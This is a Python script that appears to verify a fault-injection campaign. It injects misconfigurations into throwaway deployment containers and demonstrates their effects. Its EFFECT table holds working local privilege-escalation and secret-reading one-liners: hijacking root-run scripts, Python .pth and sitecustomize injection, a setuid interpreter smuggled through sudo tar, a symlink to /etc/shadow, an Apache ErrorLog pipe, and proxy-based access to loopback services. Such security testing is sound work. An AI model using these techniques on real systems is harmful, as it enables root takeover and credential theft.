"""Show each blind9 fault's consequence on fresh containers of the campaign's snapshot: inject the fault exactly
as the campaign does, then run its effect: a shell as root in the container (``runuser`` to act as another
account), or from the runner: ``RUNNERPW:`` a login with the deploy login's password (paramiko), ``DEPLOY:`` a
deploy of another build with the pipeline, ``ROLLBACK:`` a rollback with the pipeline, ``PARALLEL:`` N logins at
once (paramiko), each followed by an optional shell in the container.

    python blind9/effects8.py PLATFORM ID-PREFIX [ID-PREFIX ...]
"""
import os
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import paramiko

sys.path.insert(0, str(Path(__file__).parent))
from deploytests import pipeline
from deploytests.config import load_config
from deploytests.containers import Fleet
from deploytests.faults.catalogue import script
from deploytests.faults.run import Campaign
from deploytests.stacks import for_platform
from deploytests.suite.lab import APPS

from faults import ALLOWED, PLAIN

APP = APPS / "yourapplication"
camp = Campaign(APP, load_config(APP), faults=[], clean=0, progress=print, stack=for_platform(sys.argv[1]))
snap = {"tag": camp.snapshot()}
V = camp.values
H = "-H 'Host: localhost' http://127.0.0.1"
IP = "$(hostname -i | cut -d' ' -f1)"


def pth(tag: str) -> str:
    """The deploy login plants a .pth in its live release's venv that records who ran it."""
    return ("d=$(ls -d {root}/current/venv/lib/python*/site-packages); "
            f"printf 'import os; open(\"/tmp/{tag}-ran-as\", \"a\").write(str(os.getuid()) + \" \")\\n' > $d/zz-{tag}.pth; "
            f"chown {{login}} $d/zz-{tag}.pth; rm -f /tmp/{tag}-ran-as")


EFFECT = {
    "h01": "SHELL:" + "mkdir -p /tmp/int && echo INTERNAL-ONLY-SECRET > /tmp/int/secret.txt; (cd /tmp/int && setsid python3 -m http.server 8099 --bind 127.0.0.1 >/dev/null 2>&1 &); sleep 1; "
           "echo -n 'direct from eth0: '; curl -s -m 3 http://" + IP + ":8099/secret.txt || echo refused; echo -n 'through Apache as a proxy: '; curl -s -m 5 -x http://" + IP + ":80 http://127.0.0.1:8099/secret.txt",
    "h02": "SHELL:" + f"curl -s -w ' [%{{{{http_code}}}}]\\n' {H}/~intern/",
    "h03": "SHELL:" + "runuser -u tools -- sh -c \"printf '#!/bin/sh\\nid > /tmp/h03-ran-as\\n' > /opt/bat/bin/bat\"; echo hi | /usr/bin/pager >/dev/null 2>&1; echo -n 'root pager ran: '; cat /tmp/h03-ran-as",
    "h04": "SHELL:" + "runuser -u bastion -- sh -c \"printf '#!/bin/sh\\nid > /tmp/h04-ran-as\\nexit 1\\n' > /opt/bastion/bin/off-vpn\"; ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no db1.internal true 2>/dev/null; echo -n 'root ssh ran the Match exec script: '; cat /tmp/h04-ran-as",
    "h05": "SHELL:" + "runuser -u {login} -- sh -c \"echo 'id > /tmp/h05-ran-as' >> {root}/shared/app.env\"; HOME=/root bash -ic true >/dev/null 2>&1; echo -n 'interactive root shell ran the deploy login line: '; cat /tmp/h05-ran-as",
    "h06": "SHELL:" + "runuser -u ops -- sh -c \"echo 'id > /tmp/h06-ran-as' > /etc/profile.d/zz-ops.sh\"; ls -l /etc/profile.d/zz-ops.sh; ls -ld /etc/profile.d; HOME=/root bash -lc true >/dev/null 2>&1; echo -n 'root login shell ran ops file: '; cat /tmp/h06-ran-as",
    "h07": "SHELL:" + "runuser -u ops -- sh -c \"printf '#!/bin/sh\\necho ops-wrapper; /usr/bin/id > /tmp/h07-ran-as\\n' > /opt/ops/bin/id; chmod 755 /opt/ops/bin/id\"; runuser -u {login} -- sudo -n id; echo -n 'sudo id ran ops wrapper as: '; cat /tmp/h07-ran-as",
    "h08": "SHELL:" + "p=$(pgrep -u {app_user} | head -1); echo \"daemon pid $p $(grep Groups /proc/$p/status)\"; getent group shadow; setpriv --reuid {app_user} --regid {app_group} --init-groups head -c 30 /etc/shadow; echo",
    "h09": "SHELL:" + "p=$(pgrep -u www-data -x apache2 | head -1); echo \"worker pid $p $(grep Groups /proc/$p/status)\"; setpriv --reuid www-data --regid www-data --init-groups grep -c SECRET_KEY {config} && echo '(as a worker: reads the config)'",
    "h10": "SHELL:" + "ls -l {config}; runuser -u www-data -- grep -m1 SECRET_KEY {config}",
    "h12": "SHELL:" + "ssh -i /root/.h12-intruder -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes {login}@127.0.0.1 'echo intruder key logged in as $(id -un); sudo -n id' 2>&1 | tail -2; ls -la /home/{login}/.ssh/authorized_keys; grep -c nas01 /home/{login}/.ssh/authorized_keys",
    "h14": "SHELL:" + "runuser -u oncall -- su root -c id </dev/null",
    "h15": "SHELL:" + "runuser -u otel -- sh -c \"echo 'import os; open(\\\"/tmp/h15-ran-as\\\",\\\"w\\\").write(str(os.getuid()))' > /opt/otel/autoinstrumentation/sitecustomize.py\"; "
           "eval \"set -- $(sed -n 's/^DefaultEnvironment=//p' /etc/systemd/system.conf.d/otel.conf)\"; env \"$@\" python3 -c pass; echo -n 'a root python service started with the manager environment ran otel code as uid: '; cat /tmp/h15-ran-as",
    "h16": "SHELL:" + "l=$(getent passwd {login} | cut -d: -f6); runuser -u {login} -- sh -c \"echo 'import os; open(\\\"/tmp/h16-ran-as\\\",\\\"w\\\").write(str(os.getuid()))' > $l/src/opscli/usercustomize.py\"; HOME=/root python3 -c pass; echo -n 'root python3 ran the deploy login usercustomize as uid: '; cat /tmp/h16-ran-as",
    "h17": "SHELL:" + "runuser -u apm -- sh -c \"echo 'import os; open(\\\"/tmp/h17-ran-as\\\",\\\"w\\\").write(str(os.getuid()) + \\\" \\\" + open(\\\"{config}\\\").read()[:40])' > /opt/apm/bootstrap.py\"; "
           "apache2ctl stop; i=0; while pgrep -x apache2 >/dev/null && [ $i -lt 200 ]; do sleep 0.1; i=$((i+1)); done; apache2ctl start; sleep 3; " + f"curl -s -o /dev/null {H}/; sleep 1; "
           "echo -n 'the apm account script ran in the app daemon: '; cat /tmp/h17-ran-as",
    "h18": "SHELL:" + "p=$(pgrep -o -x apache2); echo \"apache parent $p runs as $(stat -c %U /proc/$p)\"; grep -m1 instantclient /proc/$p/maps; ls -l /opt/oracle/instantclient_21/",
    "h19": "SHELL:" + "runuser -u newrelic -- sh -c \"echo 'import os; open(\\\"/tmp/h19-ran-as\\\",\\\"w\\\").write(str(os.getuid()))' > /opt/newrelic/python/zz-agent.pth\"; python3 -c pass; echo -n 'root python3 ran the newrelic .pth as uid: '; cat /tmp/h19-ran-as",
    "h20": "ROLLBACK:" + f"curl -s -o /dev/null -w 'after the rollback GET /: %{{{{http_code}}}}\\n' {H}/",
    "h21": "ROLLBACK:" + f"curl -s -o /dev/null -w 'after the rollback GET /: %{{{{http_code}}}}\\n' {H}/",
    "h22": "ROLLBACK:" + f"curl -s -o /dev/null -w 'after the rollback GET /: %{{{{http_code}}}}\\n' {H}/; sleep 1; echo -n 'intruder code ran in the app as uid: '; cat /tmp/h22-ran-as",
    "h23": "ROLLBACK:" + f"curl -s -o /dev/null -w 'after the rollback GET /: %{{{{http_code}}}}\\n' {H}/",
    "h24": "DEPLOY:",
    "h25": "DEPLOY:",
    "h26": "DEPLOY:",
    "h27": "DEPLOY:",
    "h28": "DEPLOY:" + f"curl -s -o /dev/null -w 'after the deploy GET /: %{{{{http_code}}}}\\n' {H}/; ls -l {{config}} /etc/apache2/sites-available/",
    "h29": "DEPLOY:" + f"curl -s -o /dev/null -w 'after the deploy GET /: %{{{{http_code}}}}\\n' {H}/",
    "h30": "DEPLOY:" + "tail -4 /etc/ssh/sshd_config; /usr/sbin/sshd -T -C user={login},host=x,addr=1.2.3.4 | grep -i forcecommand; ps -eo pid,args | grep -m2 [s]shd",
    "h31": "DEPLOY:",
    "h32": "SHELL:" + "(apt-get install -y -qq --no-install-recommends rpcbind >/dev/null 2>&1); echo 'from the network:'; rpcinfo -p " + IP + " | head -4",
    "k01": "SHELL:" + "runuser -u oncall -- sh -c \"printf '#!/bin/sh\\nid > /tmp/k01-ran-as\\n' > /tmp/k01.sh; chmod 755 /tmp/k01.sh; echo 'ErrorLog |/tmp/k01.sh' | sudo -n /usr/bin/tee /etc/apache2/conf-available/maintenance.conf >/dev/null; sudo -n /usr/sbin/apache2ctl graceful; echo graceful rc=$?\"; sleep 3; cat /etc/apache2/conf-available/maintenance.conf; ps -eo user,pid,args | grep -v grep | grep -E 'k01|apache2 ' | head -4; tail -3 /var/log/apache2/error.log; echo -n 'oncall made Apache root parent run its script: '; cat /tmp/k01-ran-as",
    "k02": "SHELL:" + "runuser -u ci -- sh -c 'ln -sf /etc/shadow /tmp/app-release.tgz; sudo -n /usr/bin/install -m 0644 /tmp/app-release.tgz /var/www/incoming/' 2>&1 | tail -1; ls -l /var/www/incoming/; runuser -u ci -- head -c 30 /var/www/incoming/app-release.tgz; echo",
    "k03": "SHELL:" + "runuser -u nobody -- sh -c 'tar cf - /etc/shadow 2>/dev/null | tar xOf - | head -c 30'; echo",
    "k04": "SHELL:" + "setpriv --reuid {app_user} --regid {app_group} --groups {app_group},shadow {root}/current/venv/bin/python -c \"print('as the unit runs it, the app reads /etc/shadow:', open('/etc/shadow').readline()[:12])\"",
    "k05": "SHELL:" + "echo 'Authorized uses only.' > /etc/issue.net; runuser -u {app_user} -- ln -sf /etc/issue.net {root}/shared/data/reports/usage.txt; "
           "sh -c \"$(sed -n 's/^30 2 \\* \\* \\* root //p' /etc/cron.d/app-usage)\"; ls -l /etc/issue.net; echo 'root rewrote /etc/issue.net:'; cat /etc/issue.net",
    "k06": "SHELL:" + "runuser -u www-data -- sh -c 'echo \"<script>fetch(\\\"/\\\")</script>\" > /var/www/acme/.well-known/acme-challenge/x.html'; " + f"curl -s -i {H}/.well-known/acme-challenge/x.html | grep -E 'HTTP/|Content-Type|script'",
    "k07": "SHELL:" + "runuser -u oncall -- sh -c 'mkdir -p $HOME/x; echo \"import os; open(\\\"/tmp/k07-ran-as\\\",\\\"w\\\").write(str(os.getuid()))\" > $HOME/x/json.py; cd /; PYTHONPATH=$HOME/x sudo -n /usr/local/sbin/app-cache-flush' 2>&1 | tail -1; echo -n 'oncall module ran as root: uid '; cat /tmp/k07-ran-as",
    "k08": "SHELL:" + "runuser -u dev -- sh -c \"printf '#!/bin/sh\\nid > /tmp/k08-ran-as\\n' > /opt/pyenv/versions/3.12.8/bin/python3.12\"; env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin python3 -c pass; echo -n 'root python3 ran dev binary: '; cat /tmp/k08-ran-as",
    "k09": "SHELL:" + "runuser -u ci -- sh -c 'cd /tmp && mkdir -p pkg && cp /usr/bin/python3 pkg/py && chmod 4755 pkg/py && tar --owner=0 --group=0 -czf /srv/ci/app-release.tgz -C pkg py && sudo -n /usr/bin/tar -xzf /srv/ci/app-release.tgz -C /var/www/incoming'; ls -l /var/www/incoming/py; "
           "runuser -u ci -- /var/www/incoming/py -c \"import os; os.setuid(0); print('ci is root:', os.getuid())\"",
}
FAULTS = {f.id.split("-")[0]: f for f in PLAIN + ALLOWED}


def shell(container, cmd):
    res = container.exec_run(["sh", "-c", cmd.format(**V)], user="root")
    return f"rc={res.exit_code}:\n{res.output.decode(errors='replace').strip()[-1500:]}"


def login(server, **kw):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # a throwaway container of our own, on 127.0.0.1
    c.connect(server.host, server.port, username=server.user, allow_agent=False, look_for_keys=False, timeout=15,
              banner_timeout=15, auth_timeout=15, **kw)
    return c


def one(fid, server, container):
    f = FAULTS[fid]
    out = [f"##### {f.id}: {f.what}"]
    res = container.exec_run(script(f, V), user="root")
    out.append(f"inject rc={res.exit_code} {res.output.decode(errors='replace').strip()[-300:]}")
    kind, _, rest = EFFECT[fid].partition(":")
    try:
        if kind == "SHELL":
            out.append("effect " + shell(container, rest))
            if fid == "h01":
                import urllib.request
                op = urllib.request.build_opener(urllib.request.ProxyHandler({"http": server.base_url}))
                try:
                    body = op.open("http://127.0.0.1:8099/secret.txt", timeout=10).read().decode(errors="replace")
                    out.append(f"runner, the server as its proxy, GET http://127.0.0.1:8099/secret.txt (the server's loopback): {body.strip()!r}")
                except Exception as exc:  # noqa: BLE001
                    out.append(f"runner through the proxy: {exc}")
        elif kind == "RUNNERPW":
            c = login(server, password="Welcome2026")
            _, o, e = c.exec_command(rest, timeout=20)
            out.append(f"password login as {server.user}: {o.read().decode().strip()} {e.read().decode().strip()}")
            c.close()
        elif kind == "PARALLEL":
            n, ok, errs = int(rest), [], []

            def try_one(i):
                try:
                    c = login(server, key_filename=str(fleet_key["path"]))
                    _, o, _ = c.exec_command("true; echo ok", timeout=20)
                    ok.append(o.read().decode().strip())
                    c.close()
                except Exception as exc:  # noqa: BLE001
                    errs.append(f"{type(exc).__name__}: {exc}")
            ts = [threading.Thread(target=try_one, args=(i,)) for i in range(n)]
            [t.start() for t in ts]
            [t.join() for t in ts]
            out.append(f"{n} logins at once from the runner: {len(ok)} ok, {len(errs)} failed: {errs[:3]}")
        elif kind in ("DEPLOY", "ROLLBACK"):
            try:
                if kind == "DEPLOY":
                    r = pipeline.deploy(server.connection(), camp.cfg, camp.variant(7))
                    out.append(f"deploy of another build: ok, live {r.release_id}")
                else:
                    r = pipeline.rollback(server.connection(), camp.cfg)
                    out.append(f"rollback: ok {r}")
            except Exception as exc:  # noqa: BLE001 - the consequence
                out.append(f"{kind.lower()} FAILED: {type(exc).__name__}: {str(exc)[:700]}")
            if rest:
                out.append("then " + shell(container, rest))
    except Exception as exc:  # noqa: BLE001
        out.append(f"effect error: {type(exc).__name__}: {exc}")
    return "\n".join(out)


fleet_key: dict = {}
ids = [i for a in sys.argv[2:] for i in FAULTS if i.startswith(a)]
try:
    size = int(os.environ.get('FX_BATCH', '4'))
    for n in range(0, len(ids), size):
        chunk = ids[n:n + size]
        with Fleet(count=len(chunk), name_prefix="blind9fx", image_tag=snap["tag"], progress=lambda m: None) as fleet:
            fleet_key["path"] = fleet.key.path
            with ThreadPoolExecutor(max_workers=4) as pool:
                for text in pool.map(one, chunk, fleet.servers, fleet.containers):
                    print(text, flush=True)
finally:
    camp.remove_image()
